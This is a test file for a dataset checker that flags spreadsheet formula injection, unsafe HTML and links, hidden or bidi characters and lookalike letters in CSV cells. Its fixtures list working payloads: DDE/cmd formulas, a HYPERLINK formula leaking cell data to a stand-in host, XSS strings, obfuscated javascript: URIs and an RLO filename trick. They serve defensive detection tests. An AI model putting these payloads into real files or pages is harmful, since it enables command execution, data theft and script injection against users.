import { describe, expect, it } from 'vitest'
import { rule as bidiCharacter } from './bidi-character.ts'
import { rule as controlCharacter } from './control-character.ts'
import { check, inPieces, treeOf } from './fixtures/check.ts'
import { shortDataset } from './fixtures/dataset.ts'
import { rule as formulaCell } from './formula-cell.ts'
import { formulaResult, isFormula } from './formulas.ts'
import { rule as invisibleCharacter } from './invisible-character.ts'
import { mixedWord } from './lookalikes.ts'
import { decoded, unsafeAddress, withoutCode, withoutMarkup } from './markup.ts'
import { rule as markupCell } from './markup-cell.ts'
import { rule as mixedScript } from './mixed-script.ts'
import { rule as unsafeCell } from './unsafe-cell.ts'

const RULES = [
  formulaCell,
  unsafeCell,
  controlCharacter,
  bidiCharacter,
  invisibleCharacter,
  mixedScript,
  markupCell,
]

const dataset = (fields: string) =>
  shortDataset(`resources:
  - name: data
    path: data.csv
    schema: { fields: [${fields}] }
`)

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`

/** Problems of a table of one column with these cells. */
function problemsOf(cells: string[], fields = '{ name: isi, type: string }', label = 'isi') {
  const csv = `${[label, ...cells.map(quoted)].join('\r\n')}\r\n`
  const tree = treeOf({ 'dataset.md': dataset(fields), 'data.csv': csv })
  const problems = check(tree, RULES)
  expect(check(inPieces(tree, 5), RULES)).toEqual(problems)
  return problems
}

/** Codes of the rules that find something in a cell. */
const codesOf = (cell: string) => problemsOf([cell]).map(({ code }) => code)

const SILENT = [
  // Figures, ranges and marks of statistics.
  '-',
  '--',
  '---',
  '–',
  '—',
  '-5',
  '- 5',
  '-5,3',
  '-1.234,50',
  '-1,234.50',
  '-5%',
  '-0,5 %',
  '-5 °C',
  '-18 °C s.d. -20 °C',
  '+5',
  '+3,2%',
  '(5)',
  '-(5)',
  '-Rp 5.000',
  '- Rp 5.000',
  '10-20',
  '10–20',
  '-10-20',
  '-2 s.d. +2',
  '±5',
  '≈ 12',
  '~0',
  '<5',
  '< 5',
  '>60 tahun',
  '≥ 60 tahun',
  '5 < x < 10',
  'a < b',
  'a<b',
  'x <y dan z> w',
  '< 1 tahun',
  '<1–5>',
  '=',
  '==',
  '=>',
  '=> 60',
  '<=5',
  '>= 5',
  '=-',
  '= = =',
  '…',
  '*',
  '**',
  '#',
  '@',
  '+',
  '+/-',
  '-/+',
  // Telephone numbers, handles and addresses.
  '+62 812-3456-7890',
  '+628123456789',
  '+62-61-123456',
  '(061) 123456',
  '+62 61 1234567 ext. 12',
  '@pemko_contoh',
  '@dinkes.contoh',
  '@ab12',
  'data@contoh.go.id',
  'Budi <budi@contoh.go.id>',
  '<data@contoh.go.id>',
  'https://contoh.go.id/data?a=1&b=2#c',
  'http://contoh.go.id:8080/x',
  'https://contoh.go.id/?x=<5',
  'mailto:data@contoh.go.id',
  'www.contoh.go.id',
  // Indonesian texts.
  '- tidak ada',
  '- Sekolah Dasar',
  '-Siswa (L)',
  '+ tambahan',
  '- Jumlah siswa (L+P)',
  'A&B',
  'R&D',
  'A & B; C',
  'Toko "Makmur"',
  "Ma'arif",
  "'00123",
  'S1/D4',
  'K13',
  'PM2.5 (µg/m³)',
  'PM2.5 (μg/m³)',
  'kΩ',
  'β-karoten',
  'Δ suhu',
  'α = 0,05',
  'y = 2x + 1',
  'x=1',
  'Rumus: jumlah = L + P',
  'a|b!',
  'Awas | hati-hati!',
  'C:\\',
  'D:\\Data\\2020',
  'pukul 08:00',
  '08:00-12:00',
  '1:50.000',
  'Data: BPS',
  'data:2020',
  'Data:Dinas Kesehatan',
  'Kursus JavaScript: dasar',
  'JavaScript: dasar (40 jam)',
  'Javascript:dasar',
  'File: lampiran.pdf',
  'file:lampiran',
  'Kelas data: A; B',
  'Tipe <b dan c>',
  'onload = muat',
  'baris satu\nbaris dua',
  'a; b; c',
  'Jl. Melati No. 5; RT 01',
  // Arrows, pictures, other scripts.
  '→ naik',
  '↑ 5%',
  '↓',
  '⬆️',
  '✓',
  '😀',
  '👨‍👩‍👧',
  '👩🏽‍⚕️',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '❤️‍🔥',
  'مدرسة الفلاح',
  'معهد دار السلام',
  'سكوله رعيت',
  'كڤالا سكوله',
  'Madrasah الفلاح No. 5',
  'می‌روم',
  '\u200fمدرسة (5)\u200e',
  'ꦲꦏ꧀ꦱꦫ',
  'ᨔᨘᨑᨛ',
  'ᯅᯖᯂ᯲',
  'Москва',
  'Αθήνα',
  '中文',
  'हिन्दी',
  'क्‍ष',
  'é',
  'e\u0301',
  'naïve',
  'Kota Contoh (Ibu Kota)',
  '½',
  'm²',
  '10⁻³',
  'ﷲ',
]

describe('cells that are as they should be', () => {
  it('are many', () => expect(SILENT.length).toBeGreaterThan(130))
  it.each(SILENT)('%j gives no problem', (cell) => expect(codesOf(cell)).toEqual([]))
})

describe('a formula', () => {
  it.each([
    '=1+1',
    '= 1+1',
    '=A1',
    '="00123"',
    '=-5',
    '=@SUM(A1)',
    '={1,2}',
    '=#REF!',
    "='Sheet 1'!A1",
    '=sama dengan',
    '=(1)',
    '=HYPERLINK("https://contoh.example/?x="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '@SUM(A1:A2)',
    '+SUM(A1)',
    '-sum(A1:A3)',
    '- 1+SUM(A1)',
    '+A1',
    '-$B$2',
    '-A1+B2',
    '+Lembar1!A1',
    '--A1',
    '+"a"&A1',
    ' =1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\u200b=A1',
    '＝1+1',
    '＋SUM(1)',
    '＠SUM(1)',
    '+WEBSERVICE("https://contoh.example/")',
    '=IMPORTXML(A1,"x")',
    '=DDE("cmd";"/C calc";"x")',
    '-HYPERLINK("x")',
    'baik;=HYPERLINK("https://contoh.example/","x")',
    "x\n=cmd|'/C calc'!A0",
    "x;+cmd|'/C calc'!A0",
    '5;@SUM(A1)',
    '@A1',
    '@$A$1+1',
    '-2+A1',
    '+2*(3-B4)',
    '\u3000=SUM(A1)',
    '"=HYPERLINK("https://contoh.example")',
  ])('%j is found', (cell) => expect(codesOf(cell)).toContain('formula-cell'))

  it.each([
    '@contohpengguna',
    '@rt1',
    '@budi99',
    '+62 812-3456',
    '-2',
    '1-5',
    '-2 s.d. 5',
    '"= sama"',
    '\u3000teks',
  ])('%j is none', (cell) => expect(codesOf(cell)).not.toContain('formula-cell'))

  it('is found in a label', () => {
    const label = "=cmd|' /C calc'!A0"
    const tree = treeOf({
      'dataset.md': dataset(`{ name: "${label}", type: string }`),
      'data.csv': `${label}\nx\n`,
    })
    expect(check(tree, RULES)).toMatchObject([
      { code: 'formula-cell', places: [{ cell: 'A1', value: label }] },
    ])
  })

  it('is told by what it shows where that stands in it', () => {
    expect(formulaResult('="00123"')).toBe('00123')
    expect(formulaResult('= -5,5')).toBe('-5,5')
    expect(formulaResult('=HYPERLINK("https://contoh.example/a","x")')).toBe('https://contoh.example/a')
    expect(formulaResult('=HYPERLINK("javascript:x","x")')).toBeUndefined()
    expect(formulaResult('=A1')).toBeUndefined()
    const [problem] = problemsOf(['x', '="0012"', 'y', '="0013"'])
    expect(problem).toMatchObject({ count: 2, places: [{ cell: 'A3', value: '="0012"' }, { cell: 'A5' }] })
    expect(problem?.fix.id).toContain('Tulis `0012` untuk `="0012"`')
  })

  it('is found in a column that the schema does not name and among declared missing values', () => {
    const fields = (more: string) => `{ name: isi, type: string${more} }`
    const tree = treeOf({
      'dataset.md': dataset(fields('')).replace('schema: {', 'schema: { fieldsMatch: subset,'),
      'data.csv': 'isi,lain\na,=A1\n',
    })
    expect(check(tree, RULES)).toMatchObject([
      { code: 'formula-cell', places: [{ cell: 'B2', field: 'lain' }] },
    ])
    expect(problemsOf(['=A1'], fields(', missingValues: ["=A1"]'))).toMatchObject([{ code: 'formula-cell' }])
  })

  it('that is no figure of a column of figures is left to the rule of types', () => {
    expect(problemsOf(['=1+1'], '{ name: isi, type: integer }')).toEqual([])
  })

  it('is told from long texts in time that does not grow beyond their length', () => {
    for (const piece of ['-a', '=|', '+a|', ';=a', '-(', "+a|'", '- A1 ', ' ', 'a;']) {
      const started = performance.now()
      isFormula(`-${piece.repeat(40_000)}`)
      isFormula(piece.repeat(40_000))
      expect(performance.now() - started).toBeLessThan(3000)
    }
  })
})

describe('HTML and links', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT src=//x.example>',
    '< script>',
    '<script',
    '</script>',
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<svg onload="x()">',
    '<b onmouseover = x>',
    '<iframe src="https://contoh.example">',
    '<object data=x>',
    '<embed src=x>',
    '<base href="//x.example/">',
    '<meta http-equiv="refresh" content="0">',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;',
    '<a href="javascript:alert(1)">x</a>',
    "<a href='jav&#x09;ascript:alert(1)'>",
    'javascript:alert(1)',
    ' JavaScript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
    'javascript:void(0)',
    'javascript://%0aalert(1)',
    'javascript:location="x"',
    'vbscript:msgbox(1)',
    'data:text/html,<b>x</b>',
    'data:text/html;base64,PHNjcmlwdD4=',
    'data:image/svg+xml;utf8,x',
    'lihat data:image/png;base64,iVBO',
    'file:///C:/Users/x/data.xlsx',
    'file://server/bagi/x.xlsx',
    '\\\\server\\bagi\\x.xlsx',
    '[x](javascript:alert(1))',
  ])('%j is unsafe', (cell) => expect(codesOf(cell)).toContain('unsafe-cell'))

  it.each([
    'Jl. Melati<br>No. 5',
    '<b>Contoh</b>',
    '<p style="x">a</p>',
    'A &amp; B',
    'a&nbsp;b',
    '&#39;x&#39;',
    '<a href="https://contoh.example/">x</a>',
    '<img src="x.png">',
  ])('%j is markup only', (cell) => expect(codesOf(cell)).toEqual(['markup-cell']))

  it('are given back as plain text', () => {
    expect(withoutMarkup('Jl. Melati<br/>No.&nbsp;5 &amp; <b>6</b>')).toBe('Jl. Melati No. 5 & 6')
    expect(decoded('&#x41;&#66;&colon;&amp;&tidak;&#0;')).toBe('AB:&&tidak;&#0;')
    expect(decoded('a&b=1')).toBe('a&b=1')
    expect(problemsOf(['A &amp; B'])[0]?.fix.id).toContain('Tulis `A & B` untuk `A &amp; B`')
  })

  it('in an address count in every spelling', () => {
    for (const address of [
      'javascript:x',
      'java script:x',
      'JAVASCRIPT&#58;x',
      '&#x6A;avascript:x',
      '%6Aavascript:x',
      ' javascript :x',
      'vbscript:x',
      'java\u200bscript:x',
    ])
      expect(unsafeAddress(address)).toBe('running')
    expect(unsafeAddress('data:text/plain,x')).toBe('embedded')
    expect(unsafeAddress('file:///x')).toBe('local')
    for (const address of [
      'https://contoh.example/javascript:x',
      '#data',
      'data/x.csv',
      'mailto:a@contoh.example',
      'tel:+62',
      '100%',
    ])
      expect(unsafeAddress(address)).toBeUndefined()
  })

  it('in Markdown code are text', () => {
    expect(
      withoutCode('a `<script>` b\n```html\n<script>\n```\nc ``a`<b>`` <!-- <b> -->').trimEnd(),
    ).not.toContain('<')
    expect(withoutCode('`a <b>x</b>')).toContain('<b>')
    expect(withoutCode('~~~\n<b>')).not.toContain('<')
  })
})

describe('unseen characters', () => {
  it.each([
    ['a\u0007b', 'control-character'],
    ['a\u001b[31mb', 'control-character'],
    ['a\u007fb', 'control-character'],
    ['a\u0096b', 'control-character'],
    ['\u009b31m', 'control-character'],
    ['\u202abc\u202c', 'bidi-character'],
    ['laporan\u202efdp.exe', 'bidi-character'],
    ['\u2066x\u2069', 'bidi-character'],
    ['\u202d0812\u202c', 'bidi-character'],
    ['مدرسة\u202e', 'bidi-character'],
    ['a\u200bb', 'invisible-character'],
    ['Kecamatan\u00ad', 'invisible-character'],
    ['\ufeffa', 'invisible-character'],
    ['a\u2060b', 'invisible-character'],
    ['a\u200d', 'invisible-character'],
    ['a\u200cb', 'invisible-character'],
    ['\u200e0812', 'invisible-character'],
    ['a\u2028b', 'invisible-character'],
    ['x\u{e0041}', 'invisible-character'],
    ['\u3164', 'invisible-character'],
    ['a\ufffcb\ufff9', 'invisible-character'],
    ['\u115f', 'invisible-character'],
    ['a\u180e', 'invisible-character'],
  ])('%j is a %s', (cell, code) => expect(codesOf(cell)).toEqual([code]))

  it('are shown by their number, and the mark of Windows that is meant is named', () => {
    const [problem] = problemsOf(['a', '2019\u00962024'])
    expect(problem?.message.id).toContain('`2019[U+0096]2024`')
    expect(problem?.fix.id).toContain('tulis `2019–2024`')
    expect(problem?.places).toMatchObject([{ cell: 'A3', value: '2019\u00962024' }])
    expect(problemsOf(['a\u202eb'])[0]?.message.en).toContain('`a[U+202E]b`')
  })

  it('are found in a label that is the name of its field', () => {
    const [problem, ...rest] = problemsOf(['a'], '{ name: "i\u200bsi", type: string }', 'i\u200bsi')
    expect(problem).toMatchObject({ code: 'invisible-character', count: 1, places: [{ cell: 'A1', row: 1 }] })
    expect(problem?.message.id).toContain('kolom `i[U+200B]si`')
    expect(rest).toEqual([])
  })
})

describe('letters of another script', () => {
  it.each([
    ['С\u006fntoh', 'Contoh'],
    ['Kecamatan Uјi', 'Uji'],
    ['Νama', 'Nama'],
    ['А1', 'A1'],
    ['kоde', 'kode'],
  ])('%j is meant as %s', (text, latin) => {
    expect(mixedWord(text)?.latin).toBe(latin)
    expect(codesOf(text)).toEqual(['mixed-script'])
  })

  it('of their own words, and signs of science, are none', () => {
    for (const text of ['Москва', 'Москва Kota', 'РОТА', 'μg', 'kΩ', 'α1', 'Δt', 'Χ2', 'σ'])
      expect(mixedWord(text)).toBeUndefined()
  })
})
